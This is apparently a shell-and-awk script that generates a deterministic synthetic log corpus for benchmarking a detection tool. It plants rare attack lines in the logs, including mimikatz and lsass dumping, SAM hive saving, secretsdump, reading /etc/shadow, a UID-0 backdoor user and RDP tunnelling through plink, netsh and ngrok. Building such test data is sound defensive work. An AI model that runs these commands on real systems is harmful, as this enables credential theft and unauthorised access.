#!/bin/sh
# SPDX-License-Identifier: MIT
# Make the scale benchmark's corpus: realistic, deterministic (the same
# bytes on every run and machine: a seeded Park-Miller generator in awk,
# fixed mtimes), with rare planted attack lines.
#
#   tests/bench/make-corpus.sh OUTDIR [SIZE_MB] [EVTX_DIR]
#
# SIZE_MB (default 1100, i.e. a little over 1 GiB) is the size of the plain
# text logs; EVTX_DIR (default ../shared/corpus/evtx beside the repository)
# supplies .evtx samples, copied to every Windows host when present.
# OUTDIR (made; must not be inside the repository) receives:
#   plain/HOST/...        syslog, auth.log, TeamViewer, AnyDesk, IIS, JSONL, EVTX
#   gz/HOST/...gz         each plain file gzipped on its own (gzip -6 -n)
#   corpus.tar.gz         the plain tree as one tar.gz (members HOST/...)
#   corpus.zip            the plain tree as one zip
#   planted.tsv           FILE<TAB>LINE<TAB>TEXT of every planted line
#   SIZE                  bytes of plain/
# Needs: awk, gzip, tar, zip.
set -eu
out=${1:?usage: make-corpus.sh OUTDIR [SIZE_MB] [EVTX_DIR]}
size_mb=${2:-1100}
here=$(cd "$(dirname "$0")" && pwd)
repo=$(cd "$here/../.." && pwd)
evtx=${3:-$repo/../shared/corpus/evtx}
for t in awk gzip tar zip; do
	command -v $t > /dev/null || { echo "make-corpus: needs $t" >&2; exit 2; }
done
mkdir -p "$out"
out=$(cd "$out" && pwd)
case $out/ in
"$repo"/*) echo "make-corpus: $out is inside the repository" >&2; exit 2 ;;
esac
rm -rf "$out/plain" "$out/gz" "$out/corpus.tar.gz" "$out/corpus.zip"
mkdir -p "$out/plain"
export LC_ALL=C TZ=UTC

# The planted lines: TYPE<TAB>TEXT.  Each is found by a rule of the default
# pack that "sigs export --patterns --portable" exports, so ripgrep must
# find it too.  Appended to a generated line prefix of its type.
plants=$(cat <<'EOF'
auth	sshd[4242]: Accepted password for root from 203.0.113.50 port 50022 ssh2
auth	useradd[5150]: new user: name=backup2, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/1
auth	dropbear[812]: Password auth succeeded for 'root' from 198.51.100.4:50514
auth	sshd[9921]: Accepted keyboard-interactive/pam for root from 198.51.100.77 port 41312 ssh2
syslog	sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/cat /etc/shadow
syslog	CRON[31337]: (root) CMD (/tmp/.x/update.sh >/dev/null 2>&1)
syslog	sudo:    bob : TTY=pts/3 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/base64 /etc/shadow
teamviewer	SessionManagerDesktop::IncomingConnection: Connection incoming, sessionID = -2102926010
teamviewer	CParticipantManagerBase participant DESKTOP-7QK2 (ID [1234567890,-1297368123]) was added with the role 3
teamviewer	UDPv4: punch received a=198.51.100.7:5938: (*)
teamviewer	Write file C:\Users\admin\Desktop\mimikatz.exe
anydesk	Logged in from 198.51.100.23:50432 on relay 4d7cba2a.
anydesk	Accept request from 123456789 unknown.
jsonl	"CommandLine":"mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit"}
jsonl	"CommandLine":"procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\l.dmp"}
jsonl	"CommandLine":"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\out.dmp full"}
jsonl	"CommandLine":"reg.exe save HKLM\\SAM C:\\Windows\\Temp\\sam.save /y"}
jsonl	"CommandLine":"vssadmin.exe create shadow /for=C:"}
jsonl	"CommandLine":"powershell.exe -nop -c Invoke-Mimikatz -DumpCreds"}
jsonl	"CommandLine":"python3 impacket-secretsdump -just-dc corp/admin@10.0.0.5"}
jsonl	"CommandLine":"plink.exe -ssh root@203.0.113.9 -pw x -R 8080:127.0.0.1:3389"}
jsonl	"CommandLine":"netsh interface portproxy add v4tov4 listenport=8443 listenaddress=0.0.0.0 connectport=3389 connectaddress=10.0.0.5"}
jsonl	"CommandLine":"ngrok.exe tcp 3389"}
jsonl	"ServiceName":"PSEXESVC","ImagePath":"%SystemRoot%\\PSEXESVC.exe"}
jsonl	"CommandLine":"C:\\Temp\\wce.exe -w"}
jsonl	"CommandLine":"cmdkey.exe /list"}
EOF
)

# The files: HOST TYPE NAME SHARE (per mille of the plain size).
files=$(cat <<'EOF'
web01 syslog var/log/syslog 70
web01 auth var/log/auth.log 45
web02 syslog var/log/syslog 70
web02 auth var/log/auth.log 45
jump01 syslog var/log/syslog 55
jump01 auth var/log/auth.log 60
db01 syslog var/log/syslog 40
db01 auth var/log/auth.log 25
ws001 teamviewer Program_Files/TeamViewer/TeamViewer15_Logfile.log 60
ws002 teamviewer Program_Files/TeamViewer/TeamViewer15_Logfile.log 60
ws001 anydesk ProgramData/AnyDesk/ad_svc.trace 40
ws002 anydesk ProgramData/AnyDesk/ad_svc.trace 40
iis01 iis inetpub/logs/LogFiles/W3SVC1/u_ex141103.log 90
iis01 iis inetpub/logs/LogFiles/W3SVC1/u_ex141104.log 90
dc01 jsonl export/sysmon.jsonl 80
ws001 jsonl export/sysmon.jsonl 65
ws002 jsonl export/sysmon.jsonl 65
EOF
)

gen() {
	PLANTS=$5 awk -v type="$1" -v target="$2" -v seed="$3" -v host="$4" \
	    -v rel="$6" -v pfile="$out/planted.part" '
function rnd(n) {	# Park-Miller: exact in doubles; 0 <= result < n
	state = (state * 16807) % 2147483647
	return int(state / 2147483647 * n)
}
function pick(list, n) { return list[rnd(n) + 1] }
function civil(days,   z, era, doe, yoe, doy, mp) {	# days -> Y M D
	z = days + 719468; era = int(z / 146097); doe = z - era * 146097
	yoe = int((doe - int(doe / 1460) + int(doe / 36524) - int(doe / 146096)) / 365)
	Y = yoe + era * 400; doy = doe - (365 * yoe + int(yoe / 4) - int(yoe / 100))
	mp = int((5 * doy + 2) / 153); D = doy - int((153 * mp + 2) / 5) + 1
	M = mp < 10 ? mp + 3 : mp - 9; if (M <= 2) Y++
}
function stamp() {
	t += rnd(3); ms = rnd(1000)
	day = int(t / 86400); sec = t - day * 86400
	if (day != lastday) { civil(day); lastday = day }
	h = int(sec / 3600); mi = int((sec % 3600) / 60); s = sec % 60
}
function ip() { return "10." rnd(40) "." rnd(256) "." (rnd(250) + 2) }
function hex(n,   r, i) { r = ""; for (i = 0; i < n; i++) r = r substr("0123456789abcdef", rnd(16) + 1, 1); return r }
function syslog_pfx(proc) {
	return sprintf("%s %2d %02d:%02d:%02d %s %s", mon[M], D, h, mi, s, host, proc)
}
function line_syslog(   k, u) {
	k = rnd(10); u = pick(users, nusers)
	if (k == 0) return syslog_pfx("CRON[" (1000 + rnd(30000)) "]: (root) CMD (   cd / && run-parts --report /etc/cron.hourly)")
	if (k == 1) return syslog_pfx("systemd[1]: Started Session " rnd(90000) " of user " u ".")
	if (k == 2) return syslog_pfx("kernel: [" rnd(900000) "." sprintf("%06d", rnd(1000000)) "] [UFW BLOCK] IN=eth0 OUT= MAC=" hex(12) " SRC=" ip() " DST=" ip() " LEN=" (40 + rnd(1400)) " TTL=" (32 + rnd(96)) " PROTO=TCP SPT=" (1024 + rnd(60000)) " DPT=" pick(ports, nports) " WINDOW=1024 RES=0x00 SYN URGP=0")
	if (k == 3) return syslog_pfx("dhclient[" (300 + rnd(900)) "]: DHCPACK of " ip() " from 10.0.0.1")
	if (k == 4) return syslog_pfx("postfix/smtpd[" (2000 + rnd(20000)) "]: connect from unknown[203.0.113." rnd(255) "]")
	if (k == 5) return syslog_pfx("sudo:    " u " : TTY=pts/" rnd(9) " ; PWD=/home/" u " ; USER=root ; COMMAND=/usr/bin/systemctl restart " pick(svcs, nsvcs))
	if (k == 6) return syslog_pfx("nginx[" (700 + rnd(300)) "]: " ip() " - - \"GET /api/v1/items/" rnd(100000) " HTTP/1.1\" 200 " rnd(20000) " \"-\" \"Mozilla/5.0 (X11; Linux x86_64)\"")
	if (k == 7) return syslog_pfx("systemd-resolved[" (400 + rnd(100)) "]: Using degraded feature set UDP instead of UDP+EDNS0 for DNS server " ip() ".")
	if (k == 8) return syslog_pfx("rsyslogd: action \x27action-" rnd(9) "-builtin:omfwd\x27 resumed (module \x27builtin:omfwd\x27) [v8.2102.0 try https://www.rsyslog.com/e/2359 ]")
	return syslog_pfx("CRON[" (1000 + rnd(30000)) "]: pam_unix(cron:session): session closed for user root")
}
function line_auth(   k, u, p) {
	k = rnd(8); u = pick(users, nusers); p = 1000 + rnd(60000)
	if (k == 0) return syslog_pfx("sshd[" p "]: Accepted publickey for " u " from " ip() " port " (30000 + rnd(30000)) " ssh2: RSA SHA256:" hex(43))
	if (k == 1) return syslog_pfx("sshd[" p "]: Failed password for invalid user " pick(bad, nbad) " from 198.51.100." rnd(255) " port " (30000 + rnd(30000)) " ssh2")
	if (k == 2) return syslog_pfx("sshd[" p "]: pam_unix(sshd:session): session opened for user " u "(uid=" (1000 + rnd(50)) ") by (uid=0)")
	if (k == 3) return syslog_pfx("sshd[" p "]: Received disconnect from " ip() " port " (30000 + rnd(30000)) ":11: disconnected by user")
	if (k == 4) return syslog_pfx("sudo: pam_unix(sudo:session): session opened for user root(uid=0) by " u "(uid=" (1000 + rnd(50)) ")")
	if (k == 5) return syslog_pfx("sshd[" p "]: Connection closed by authenticating user root " ip() " port " (30000 + rnd(30000)) " [preauth]")
	if (k == 6) return syslog_pfx("systemd-logind[" (500 + rnd(100)) "]: New session " rnd(90000) " of user " u ".")
	return syslog_pfx("sshd[" p "]: Invalid user " pick(bad, nbad) " from 198.51.100." rnd(255) " port " (30000 + rnd(30000)))
}
function tv_pfx() {
	return sprintf("%04d/%02d/%02d %02d:%02d:%02d.%03d  %4d       %4d %s   ", Y, M, D, h, mi, s, ms, 4000 + rnd(2000), 4000 + rnd(2000), pick(tvlev, ntvlev))
}
function line_teamviewer(   k) {
	k = rnd(8)
	if (k == 0) return tv_pfx() "CTcpConnectionBase[" rnd(99) "]::ConnectEndpoint(): Connecting to endpoint 217.146." rnd(255) "." rnd(255) ":5938"
	if (k == 1) return tv_pfx() "Activating Router carrier"
	if (k == 2) return tv_pfx() "CKeepAliveClientClient::HandleKeepAliveRequest(): received keepalive, sending answer"
	if (k == 3) return tv_pfx() "SessionManagerDesktop::SessionTerminate: Connection incoming closed"
	if (k == 4) return tv_pfx() "NetWatchdog: Research into error " rnd(20) " of type LinkLocal not necessary"
	if (k == 5) return tv_pfx() "CMachineProxySettingsProvider::GetProxy(): no proxy configured for https://master" rnd(20) ".teamviewer.com"
	if (k == 6) return tv_pfx() "LoginDesktopWindowImpl::ShowDesktop: session " rnd(10) ", state " rnd(5)
	return tv_pfx() "UpdateCheck: current version 15." rnd(60) "." rnd(10) ", no update available"
}
function ad_pfx(what) {
	return sprintf("   info %04d-%02d-%02d %02d:%02d:%02d.%03d       gsvc   %4d   %4d   %2d %32s - ", Y, M, D, h, mi, s, ms, 4000 + rnd(900), 4000 + rnd(900), rnd(40), what)
}
function line_anydesk(   k) {
	k = rnd(6)
	if (k == 0) return ad_pfx("anynet.relay_conn") "Connecting to relay " hex(8) " (relay-" hex(8) ".net.anydesk.com:443)."
	if (k == 1) return ad_pfx("anynet.relay_conn") "Connection to relay established."
	if (k == 2) return ad_pfx("app.backend_session") "Backend session " hex(16) " keepalive."
	if (k == 3) return ad_pfx("service.main") "Idle. Client-ID: 9" rnd(100000000) " (FPR: " hex(12) ")."
	if (k == 4) return ad_pfx("app.prepare_task") "Preparing task " rnd(1000) "."
	return ad_pfx("anynet.any_socket") "Sending heartbeat to " hex(8) "."
}
function line_iis(   k) {
	k = rnd(6)
	return sprintf("%04d-%02d-%02d %02d:%02d:%02d 10.20.1.12 %s %s %s %d - %s %s - %d 0 0 %d", Y, M, D, h, mi, s,
	    k < 4 ? "GET" : "POST", pick(uris, nuris), k == 0 ? "replaceCurrent=1" : "-", k < 3 ? 443 : 80,
	    ip(), pick(uas, nuas), k == 5 ? 302 : 200, rnd(900))
}
function iis_pfx() { return sprintf("%04d-%02d-%02d %02d:%02d:%02d 10.20.1.12 ", Y, M, D, h, mi, s) }
function jsonl_pfx(eid) {
	return sprintf("{\"@timestamp\":\"%04d-%02d-%02dT%02d:%02d:%02d.%03dZ\",\"host\":\"%s\",\"EventID\":%d,\"Channel\":\"Microsoft-Windows-Sysmon/Operational\",", Y, M, D, h, mi, s, ms, host, eid)
}
function line_jsonl(   k) {
	k = rnd(5)
	if (k < 3) return jsonl_pfx(1) "\"Image\":\"" pick(imgs, nimgs) "\",\"ProcessGuid\":\"{" hex(8) "-" hex(4) "-" hex(4) "-" hex(4) "-" hex(12) "}\",\"User\":\"CORP\\\\" pick(users, nusers) "\",\"CommandLine\":\"" pick(cmds, ncmds) "\"}"
	if (k == 3) return jsonl_pfx(3) "\"Image\":\"C:\\\\Windows\\\\System32\\\\svchost.exe\",\"DestinationIp\":\"" ip() "\",\"DestinationPort\":" pick(ports, nports) ",\"Protocol\":\"tcp\"}"
	return jsonl_pfx(11) "\"Image\":\"C:\\\\Windows\\\\explorer.exe\",\"TargetFilename\":\"C:\\\\Users\\\\" pick(users, nusers) "\\\\AppData\\\\Local\\\\Temp\\\\" hex(8) ".tmp\"}"
}
function line(type) {
	stamp()
	if (type == "syslog") return line_syslog()
	if (type == "auth") return line_auth()
	if (type == "teamviewer") return line_teamviewer()
	if (type == "anydesk") return line_anydesk()
	if (type == "iis") return line_iis()
	return line_jsonl()
}
function plant_pfx(type) {
	if (type == "syslog" || type == "auth") return syslog_pfx("")
	if (type == "teamviewer") return tv_pfx()
	if (type == "anydesk") return ad_pfx("anynet.any_socket") ""
	if (type == "iis") return iis_pfx()
	return jsonl_pfx(1) "\"Image\":\"C:\\\\Windows\\\\Temp\\\\x.exe\","
}
BEGIN {
	state = seed % 2147483646 + 1
	split("Jan Feb Mar Apr May Jun Jul Aug Sep Oct Nov Dec", mon, " ")
	nusers = split("alice bob carol dave erin frank grace heidi ivan judy mallory oscar peggy trent victor walter svc_backup deploy ansible jenkins", users, " ")
	nbad = split("admin test oracle ubuntu pi guest postgres git ftp user", bad, " ")
	nports = split("22 80 443 445 3389 5938 8080 135 139 53", ports, " ")
	nsvcs = split("nginx postgresql docker ssh cron rsyslog", svcs, " ")
	ntvlev = split("D3 I2 W1 I2 D3", tvlev, " ")
	nuris = split("/owa/auth/logon.aspx /ecp/default.aspx /iisstart.htm /api/orders /static/site.css /static/app.js /favicon.ico /owa/service.svc /Microsoft-Server-ActiveSync /autodiscover/autodiscover.xml", uris, " ")
	nuas = split("Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36 Microsoft+Office/16.0 Apple-iPhone13C2/1901.214 curl/7.68.0 Mozilla/5.0+(compatible;+bingbot/2.0)", uas, " ")
	nimgs = split("C:\\\\Windows\\\\System32\\\\svchost.exe C:\\\\Windows\\\\System32\\\\cmd.exe C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe C:\\\\Program+Files\\\\Google\\\\Chrome\\\\Application\\\\chrome.exe C:\\\\Windows\\\\System32\\\\rundll32.exe C:\\\\Windows\\\\System32\\\\taskhostw.exe", imgs, " ")
	for (i = 1; i <= nimgs; i++) gsub(/\+/, " ", imgs[i])
	ncmds = split("C:\\\\Windows\\\\system32\\\\svchost.exe -k netsvcs -p -s Schedule|cmd.exe /c echo backup done > C:\\\\Temp\\\\backup.log|powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\\\Scripts\\\\inventory.ps1|rundll32.exe C:\\\\Windows\\\\System32\\\\shell32.dll,Control_RunDLL|\\\"C:\\\\Program Files\\\\Google\\\\Chrome\\\\Application\\\\chrome.exe\\\" --type=renderer --lang=en-US|taskhostw.exe NGCKeyPregen|net.exe use Z: \\\\\\\\fs01\\\\share /persistent:yes|reg.exe query HKLM\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run|ssh.exe deploy@10.0.0.12 uptime|schtasks.exe /query /fo LIST", cmds, "|")
	# From the environment: awk -v would expand the backslashes.
	plants = ENVIRON["PLANTS"]
	np = plants == "" ? 0 : split(plants, pl, "\034")
	t = 1414972800 + (seed % 86400)	# 2014-11-03, a per-file start
	lastday = -1; n = 0; bytes = 0; j = 1
	while (bytes < target) {
		if (j <= np && bytes >= j * target / (np + 1)) {
			stamp(); l = plant_pfx(type) pl[j]
			printf "%s\t%d\t%s\n", rel, n + 1, l >> pfile
			j++
		} else
			l = line(type)
		print l
		n++; bytes += length(l) + 1
	}
}'
}

total=$((size_mb * 1000000))
rm -f "$out/planted.part"
# Each file gets its number, and its number K among the C files of its type:
# plant M of a type goes to the file with K = M mod C.
printf "%s\n" "$files" | awk '{ c[$2]++; k[NR] = c[$2] - 1; l[NR] = $0 }
	END { for (i = 1; i <= NR; i++) { split(l[i], f, " "); print i, k[i], c[f[2]], l[i] } }' |
while read -r i k c host type name share; do
	rel=$host/$name
	mkdir -p "$out/plain/$(dirname "$rel")"
	p=$(printf "%s\n" "$plants" | awk -F '\t' -v t="$type" -v k="$k" -v c="$c" '
		$1 == t { if (n++ % c == k) { printf "%s%s", sep, $2; sep = "\034" } }')
	if [ "$type" = iis ]; then
		printf '#Software: Microsoft Internet Information Services 8.5\n#Version: 1.0\n#Date: 2014-11-03 00:00:00\n#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\n' > "$out/plain/$rel"
	else
		: > "$out/plain/$rel"
	fi
	gen "$type" $((total / 1000 * share)) $((i * 7919)) "$host" "$p" "$rel" >> "$out/plain/$rel"
done
# IIS planted lines come after the 4 header lines.
awk -F '\t' 'BEGIN { OFS = "\t" } $1 ~ /\/u_ex/ { $2 += 4 } { print }' "$out/planted.part" |
	sort > "$out/planted.tsv"
rm -f "$out/planted.part"

# Copies of the EVTX samples on the Windows hosts.
if [ -d "$evtx" ]; then
	for host in dc01 ws001 ws002 iis01; do
		d=$out/plain/$host/Windows/System32/winevt/Logs
		mkdir -p "$d"
		find "$evtx" -name '*.evtx' ! -name '*bad*' ! -name '*corrupt*' | sort | {
			k=0
			while IFS= read -r f; do
				k=$((k + 1))
				cp "$f" "$d/sample$k.evtx"
			done
		}
	done
else
	echo "make-corpus: no EVTX samples at $evtx; none copied" >&2
fi

find "$out/plain" -exec touch -h -d '2014-11-30 00:00:00' {} +
(cd "$out/plain" && find . -type f | sed 's|^\./||' | sort) > "$out/files.txt"
# Per-file .gz, one tar.gz and one zip of the same tree.
(cd "$out/plain" && while IFS= read -r f; do
	mkdir -p "$out/gz/$(dirname "$f")"
	gzip -6 -n -c "$f" > "$out/gz/$f.gz"
done < "$out/files.txt")
find "$out/gz" -exec touch -h -d '2014-11-30 00:00:00' {} +
(cd "$out/plain" && tar --sort=name --owner=0 --group=0 --numeric-owner \
    --mtime='2014-11-30 00:00:00' -cf - $(sed 's|/.*||' "$out/files.txt" | sort -u) |
    gzip -6 -n > "$out/corpus.tar.gz")
(cd "$out/plain" && zip -q -X -r "$out/corpus.zip" $(sed 's|/.*||' "$out/files.txt" | sort -u))
du -sb "$out/plain" | cut -f1 > "$out/SIZE"
echo "corpus: $(cat "$out/SIZE") bytes in $(wc -l < "$out/files.txt") files," \
    "$(wc -l < "$out/planted.tsv") planted lines, in $out"
